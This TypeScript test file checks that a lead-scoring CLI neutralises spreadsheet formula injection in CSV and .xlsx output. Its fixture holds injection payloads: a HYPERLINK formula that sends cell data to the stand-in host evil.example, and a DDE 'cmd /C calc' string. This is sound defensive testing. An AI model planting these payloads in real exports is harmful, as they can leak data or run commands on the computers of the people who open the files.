// `leadscore score` output cannot run as a formula: formula-leading text gets a "'", numbers stay numbers,
// scoring the output again gives the same bytes, and --raw writes the text as read.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { findColumn } from "../../src/core/headers";
import { parseCsv, readWorkbook } from "../../src/local/workbook";
import { MATRIX, runCli, workbook } from "./run-cli";

const AS_OF = "2026-10-20T08:30:00Z";
const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "\tTabbed",
  "\rReturned",
];
const leadsCsv =
  "Email,Name,Company,Delta\n" +
  NAMES.map((n, i) => `l${i}@x.com,"${n.replace(/"/g, '""')}",Acme,-5`).join("\n") +
  "\nq@x.com,'=1+1,Bad Corp,7\n";
// A second rule makes Bad Corp's Fit Score negative: a negative score is a number, not text.
const matrix = `${MATRIX}TRUE,Fit,Bad,Lead,,Company,contains,Bad,-20,,,\n`;

async function score(dir: string, out: string, ...flags: string[]) {
  const result = await runCli(["score", dir, "--as-of", AS_OF, "--out", out, ...flags]);
  expect(result.code, result.stderr).toBe(0);
  return readFileSync(out, "utf8");
}

describe("formula-leading text in the output", () => {
  it("gets a leading ' in the CSV; numbers, negative scores and guarded text are left as they are", async () => {
    const dir = workbook({ "Leads.csv": leadsCsv, "Scoring Matrix.csv": matrix });
    const table = parseCsv(await score(dir, join(dir, "out.csv")));
    const [name, delta, fit] = ["Name", "Delta", "Fit Score"].map((h) => findColumn(table[0], h));
    expect(table.slice(1, 1 + NAMES.length).map((r) => r[name])).toEqual(NAMES.map((n) => `'${n}`));
    expect(table[1 + NAMES.length][name]).toBe("'=1+1");
    expect(table.slice(1).map((r) => r[delta])).toEqual([...NAMES.map(() => -5), 7]);
    expect(table[1 + NAMES.length][fit]).toBe(-20);
    expect(readFileSync(join(dir, "out.csv"), "utf8")).toContain("\nq@x.com,'=1+1,Bad Corp,7,0,Cold,F,-20,");
  });

  it("is idempotent: scoring the output again gives identical bytes", async () => {
    const first = workbook({ "Leads.csv": leadsCsv, "Scoring Matrix.csv": matrix });
    const once = await score(first, join(first, "out.csv"));
    const second = workbook({ "Leads.csv": once, "Scoring Matrix.csv": matrix });
    expect(await score(second, join(second, "out.csv"))).toBe(once);
  });

  it("--raw writes the text exactly as read", async () => {
    const dir = workbook({ "Leads.csv": leadsCsv, "Scoring Matrix.csv": matrix });
    const table = parseCsv(await score(dir, join(dir, "out.csv"), "--raw"));
    const name = findColumn(table[0], "Name");
    expect(table.slice(1).map((r) => r[name])).toEqual([...NAMES, "'=1+1"]);
  });

  it("guards .xlsx output the same way, with scores as numbers", async () => {
    const dir = workbook({ "Leads.csv": leadsCsv, "Scoring Matrix.csv": matrix });
    const out = join(dir, "scored.xlsx");
    const result = await runCli(["score", dir, "--as-of", AS_OF, "--out", out]);
    expect(result.code, result.stderr).toBe(0);
    expect(existsSync(out)).toBe(true);
    const [leads] = await readWorkbook(out);
    expect(leads.name).toBe("Leads");
    const [name, fit] = ["Name", "Fit Score"].map((h) => findColumn(leads.values[0], h));
    // XML turns a carriage return into a line feed (exceljs writes the cell text as it is).
    const guarded = [...NAMES.map((n) => `'${n}`.replace("\r", "\n")), "'=1+1"];
    expect(leads.values.slice(1).map((r) => r[name])).toEqual(guarded);
    expect(leads.values.slice(1).map((r) => r[fit])).toEqual([...NAMES.map(() => 10), -20]);
  });
});
